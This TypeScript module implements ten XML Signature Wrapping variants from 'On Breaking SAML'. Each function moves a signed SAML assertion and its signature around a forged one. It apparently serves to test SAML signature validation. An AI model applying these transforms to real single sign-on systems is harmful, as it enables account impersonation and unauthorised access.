import { DOMParser, type Element, type Node, XMLSerializer } from '@xmldom/xmldom';

export function found<T>(value: T | null | undefined): T {
  if (value === null || value === undefined) throw new Error('It is not there');
  return value;
}
export const parsed = (xml: string): Element => found(new DOMParser().parseFromString(xml, 'text/xml').documentElement);
export const written = (node: Node): string => new XMLSerializer().serializeToString(node);
export const child = (element: Element, name: string): Element =>
  found([...element.childNodes].find((node): node is Element => node.nodeType === 1 && node.localName === name));

/** A response that the identity provider made for somebody else, and what a wrapper puts around or into it. */
interface Parts {
  response: Element;
  good: Element;
  /** With the signature of the good one, not yet in the document. */
  evil: Element;
  signature: Element;
}

/** Positions of the forged and the signed assertion (the variants of 'On Breaking SAML', Somorovsky et al., 2012). */
export const wrappings: Record<string, (parts: Parts) => void> = {
  'before the signed one': ({ response, good, evil }) => response.insertBefore(evil, good),
  'after the signed one': ({ response, evil }) => response.appendChild(evil),
  'around the signed one': ({ response, good, evil }) => {
    response.replaceChild(evil, good);
    evil.appendChild(good);
  },
  'around the signed one, with its signature': ({ response, good, evil, signature }) => {
    response.replaceChild(evil, good);
    good.removeChild(signature);
    evil.insertBefore(signature, child(evil, 'Subject'));
    evil.appendChild(good);
  },
  'with the signed one in an object of the signature': ({ response, good, evil, signature }) => {
    response.replaceChild(evil, good);
    good.removeChild(signature);
    evil.insertBefore(signature, child(evil, 'Subject'));
    signature
      .appendChild(found(signature.ownerDocument).createElementNS(signature.namespaceURI, 'ds:Object'))
      .appendChild(good);
  },
  'with the signed one among extensions': ({ response, good, evil }) => {
    response.replaceChild(evil, good);
    const extensions = found(response.ownerDocument).createElementNS(response.namespaceURI, 'samlp:Extensions');
    response.insertBefore(extensions, evil);
    extensions.appendChild(good);
  },
  'with the signed one in an attribute': ({ response, good, evil }) => {
    response.replaceChild(evil, good);
    child(child(evil, 'AttributeStatement'), 'Attribute').appendChild(good);
  },
  'under the id of the signed one, which stands behind': ({ response, good, evil, signature }) => {
    evil.setAttribute('ID', found(good.getAttribute('ID')));
    good.removeChild(signature);
    evil.insertBefore(signature, child(evil, 'Subject'));
    response.insertBefore(evil, good);
  },
  'under the id of the signed one, which it holds': ({ response, good, evil, signature }) => {
    evil.setAttribute('ID', found(good.getAttribute('ID')));
    response.replaceChild(evil, good);
    good.removeChild(signature);
    evil.insertBefore(signature, child(evil, 'Subject'));
    child(evil, 'Subject').appendChild(good);
  },
  'in place of the signed one, with its signature': ({ response, good, evil, signature }) => {
    evil.setAttribute('ID', found(good.getAttribute('ID')));
    response.replaceChild(evil, good);
    evil.insertBefore(signature, child(evil, 'Subject'));
  },
};
